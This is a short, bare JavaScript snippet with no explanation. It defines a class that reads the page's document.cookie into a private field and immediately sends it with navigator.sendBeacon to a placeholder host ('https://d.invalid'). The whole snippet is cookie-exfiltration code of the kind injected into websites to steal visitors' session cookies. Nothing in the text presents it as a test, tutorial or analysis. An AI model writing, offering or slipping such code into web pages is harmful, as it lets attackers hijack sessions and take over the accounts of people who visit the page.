class V { #x; load() { this.#x = document.cookie; } send() { navigator.sendBeacon('https://d.invalid', this.#x); } } const v = new V(); v.load(); v.send();
